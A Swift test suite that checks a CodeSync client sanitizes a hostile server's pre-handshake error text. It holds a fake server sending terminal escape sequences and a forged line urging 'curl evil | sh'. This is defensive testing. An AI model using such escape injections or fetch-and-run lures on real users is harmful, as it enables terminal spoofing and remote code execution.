import CodeSyncProtocol
import CodeSyncTestSupport
import Foundation
import Testing

/// What a server says before any authentication is a peer's text: it reaches the user's terminal
/// only through the sanitizer, on one line.
@Suite(.ownThreads, .timeLimit(.minutes(1))) struct HostileRefusalTextTests {
    @Test func aRefusalBeforeTheHandshakeCannotWriteEscapesOrLinesToTheTerminal() async throws {
        let binary = try TestEnvironment.codesyncBinary()
        // A fake host: answers every connection with a cleartext `error` frame full of escapes.
        let script = """
            import json, socket, struct, sys
            s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(4)
            print(s.getsockname()[1], flush=True)
            body = json.dumps({"type": "error", "code": "limit",
                               "message": "busy\\x1b]0;PWNED\\x07\\x1b[2J\\nfake line: run curl evil | sh"}).encode()
            s.settimeout(15)
            try:
                while True:
                    c, _ = s.accept(); c.sendall(struct.pack(">I", len(body)) + body); c.close()
            except socket.timeout:
                pass
            """
        // Ends by itself (15 s without a connection) and holds none of the test runner's pipes.
        let server = Process()
        server.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        server.arguments = ["-c", script]
        let out = Pipe()
        server.standardOutput = out
        server.standardError = FileHandle.nullDevice
        server.standardInput = FileHandle.nullDevice
        try server.run()
        defer { kill(server.processIdentifier, SIGKILL) }
        let portLine = try #require(String(data: out.fileHandleForReading.availableData, encoding: .utf8))
        let port = portLine.trimmingCharacters(in: .whitespacesAndNewlines)
        let result = try await offPool {
            try Command.run([binary.path, "cat", "127.0.0.1:\(port)"], timeout: 20, environment: ["CODESYNC_SECRET": "0123456789abcdef0123456789abcdef"])
        }
        #expect(result.status != 0)
        #expect(!result.stderr.contains("\u{1b}") && !result.stderr.contains("\u{07}"), "\(result.stderr.debugDescription)")
        #expect(!result.stderr.contains("\nfake line"), "a peer forged a line of its own: \(result.stderr.debugDescription)")
        #expect(result.stderr.contains("busy"), "\(result.stderr)")
    }
}
